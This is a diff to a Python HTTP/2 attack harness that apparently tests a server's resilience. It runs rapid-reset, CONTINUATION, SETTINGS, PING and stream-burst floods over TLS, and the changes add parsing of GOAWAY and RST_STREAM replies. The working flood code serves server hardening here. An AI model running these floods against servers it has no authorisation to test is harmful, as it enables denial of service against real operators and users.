@@ -3,8 +3,9 @@
 usage: hostile_h2.py HOST PORT CAFILE ATTACK [AUTHORIZATION]
 
 Runs one attack over TLS (ALPN h2) and prints one JSON line: what the server did about it
-(`goaway`: its error code and last stream id, or null; `closed`: the server closed the
-connection; `answers`: responses seen), and how long it took. The attacks are the ones HTTP/2
+(`goaway`: its error code, last stream id and debug data, or null; `closed`: the server closed
+the connection; `answers`: responses seen; `resets`: RST_STREAM error codes seen, counted), and
+how long it took. The attacks are the ones HTTP/2
 servers were taken down by: rapid reset (CVE-2023-44487), CONTINUATION floods, SETTINGS and PING
 floods, a burst of streams over the limit, a 2 MiB body, a zero flow-control window, random bytes
 after the preface, a TLS handshake that never finishes.
@@ -13,6 +14,7 @@ after the preface, a TLS handshake that never finishes.
 import json
 import os
 import random
+import select
 import socket
 import ssl
 import struct
@@ -55,42 +57,79 @@ def request_headers(stream_path=None):
     return headers
 
 
-def read_until_closed(tls, connection, seconds):
-    """Reads what the server sends for up to `seconds`; returns (goaway, closed, answers)."""
-    goaway, closed, answers = None, False, 0
-    deadline = time.time() + seconds
-    tls.settimeout(0.2)
-    while time.time() < deadline:
-        try:
-            data = tls.recv(65536)
-        except socket.timeout:
-            continue
-        except (ConnectionError, ssl.SSLError, OSError):
-            closed = True
-            break
-        if not data:
-            closed = True
-            break
-        try:
-            events = connection.receive_data(data)
-        except Exception:  # a frame the client library refuses; keep reading raw
-            continue
-        for event in events:
-            if isinstance(event, h2.events.ConnectionTerminated):
-                goaway = {"code": int(event.error_code), "last": event.last_stream_id}
-            if isinstance(event, h2.events.ResponseReceived):
+class Received:
+    """What the server sent, read while the attack goes on (so a GOAWAY sent just before the
+    server closes is not lost to the reset a closed socket answers further writes with), parsed
+    as raw frames: the attacks use stream ids the client library knows nothing of."""
+
+    def __init__(self):
+        self.bytes = bytearray()
+        self.closed = False
+
+    def poll(self, tls, timeout=0.0):
+        """Reads whatever has arrived (waiting at most `timeout` seconds for the first byte)."""
+        while not self.closed:
+            if not tls.pending():
+                ready, _, _ = select.select([tls], [], [], timeout)
+                if not ready:
+                    return
+            try:
+                data = tls.recv(65536)
+            except (ssl.SSLWantReadError, BlockingIOError, socket.timeout):
+                return
+            except (ConnectionError, ssl.SSLError, OSError):
+                self.closed = True
+                return
+            if not data:
+                self.closed = True
+                return
+            self.bytes += data
+            timeout = 0.0
+
+    def frames(self):
+        offset = 0
+        while offset + 9 <= len(self.bytes):
+            length = int.from_bytes(self.bytes[offset : offset + 3], "big")
+            kind, flags = self.bytes[offset + 3], self.bytes[offset + 4]
+            stream = int.from_bytes(self.bytes[offset + 5 : offset + 9], "big") & 0x7FFFFFFF
+            payload = bytes(self.bytes[offset + 9 : offset + 9 + length])
+            if len(payload) < length:
+                return
+            yield kind, flags, stream, payload
+            offset += 9 + length
+
+    def summary(self):
+        """(goaway, answers, resets): the first GOAWAY's code, last stream id and debug data;
+        HEADERS frames (responses) received; RST_STREAM error codes received, counted."""
+        goaway, answers, resets = None, 0, {}
+        for kind, _, stream, payload in self.frames():
+            if kind == 0x7 and goaway is None and len(payload) >= 8:
+                goaway = {
+                    "code": int.from_bytes(payload[4:8], "big"),
+                    "last": int.from_bytes(payload[0:4], "big") & 0x7FFFFFFF,
+                    "debug": payload[8:].decode("utf-8", "replace"),
+                }
+            elif kind == 0x1 and stream:
                 answers += 1
-        try:
-            pending = connection.data_to_send()
-            if pending:
-                tls.sendall(pending)
-        except (ConnectionError, ssl.SSLError, OSError):
-            closed = True
-            break
-    return goaway, closed, answers
+            elif kind == 0x3 and len(payload) == 4:
+                code = str(int.from_bytes(payload, "big"))
+                resets[code] = resets.get(code, 0) + 1
+        return goaway, answers, resets
+
+
+RECEIVED = Received()
+
+
+def read_until_closed(tls, seconds):
+    """Reads what the server sends for up to `seconds`, or until it closes."""
+    tls.settimeout(0.5)
+    deadline = time.time() + seconds
+    while time.time() < deadline and not RECEIVED.closed:
+        RECEIVED.poll(tls, 0.2)
 
 
 def start(settings=None):
+    RECEIVED.__init__()
     tls = connect()
     config = h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
     connection = h2.connection.H2Connection(config=config)
@@ -102,10 +141,15 @@ def start(settings=None):
 
 
 def send_quietly(tls, data):
+    """Sends `data`, reading what has arrived first; `False` once the server has closed."""
+    RECEIVED.poll(tls)
+    if RECEIVED.closed:
+        return False
     try:
         tls.sendall(data)
         return True
     except (ConnectionError, ssl.SSLError, OSError):
+        RECEIVED.poll(tls)
         return False
 
 
@@ -147,16 +191,18 @@ def main():
                 if not send_quietly(tls, frame(0x9, 0, 1, junk)):
                     break
                 sent += 1
-    elif ATTACK == "settings-flood":
-        for _ in range(20000):
-            if not send_quietly(tls, frame(0x4, 0, 0, struct.pack(">HI", 0x3, 100))):
+    elif ATTACK in ("settings-flood", "ping-flood"):
+        # 20,000 frames the server must acknowledge, sent without reading the acknowledgements.
+        if ATTACK == "settings-flood":
+            frames = [frame(0x4, 0, 0, struct.pack(">HI", 0x3, 100)) for _ in range(20000)]
+        else:
+            frames = [frame(0x6, 0, 0, struct.pack(">Q", i)) for i in range(20000)]
+        for start_index in range(0, len(frames), 1000):
+            try:
+                tls.sendall(b"".join(frames[start_index : start_index + 1000]))
+            except (ConnectionError, ssl.SSLError, OSError):
                 break
-            sent += 1
-    elif ATTACK == "ping-flood":
-        for i in range(20000):
-            if not send_quietly(tls, frame(0x6, 0, 0, struct.pack(">Q", i))):
-                break
-            sent += 1
+            sent += 1000
     elif ATTACK == "stream-burst":
         stream = 1
         for _ in range(10000):
@@ -191,8 +237,9 @@ def main():
     else:
         print(json.dumps({"error": "unknown attack " + ATTACK}))
         sys.exit(2)
-    goaway, closed, answers = read_until_closed(tls, connection, 3)
-    result.update({"sent": sent, "goaway": goaway, "closed": closed, "answers": answers})
+    read_until_closed(tls, 3)
+    goaway, answers, resets = RECEIVED.summary()
+    result.update({"sent": sent, "goaway": goaway, "closed": RECEIVED.closed, "answers": answers, "resets": resets})
     result["seconds"] = round(time.time() - began, 3)
     try:
         tls.close()
